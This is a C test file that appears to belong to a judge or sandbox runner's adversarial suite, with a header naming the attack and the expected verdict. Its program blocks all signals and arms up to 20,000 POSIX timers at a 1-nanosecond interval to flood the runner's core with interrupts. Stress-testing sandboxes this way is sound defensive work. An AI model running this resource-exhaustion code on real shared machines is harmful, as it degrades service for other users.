/* attack: tens of thousands of timers that fire at one moment, in interrupts on the runner's core
 * expect: AC TLE
 * limits: cpu_ms=500
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>
int main(void) {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, 0);
    struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGUSR1};
    struct itimerspec when = {.it_interval = {0, 1}};
    clock_gettime(CLOCK_MONOTONIC, &when.it_value);
    when.it_value.tv_sec++;
    timer_t timer;
    for (int i = 0; i < 20000 && timer_create(CLOCK_MONOTONIC, &event, &timer) == 0; i++)
        timer_settime(timer, TIMER_ABSTIME, &when, 0);
    usleep(1000000);
    puts("held");
}
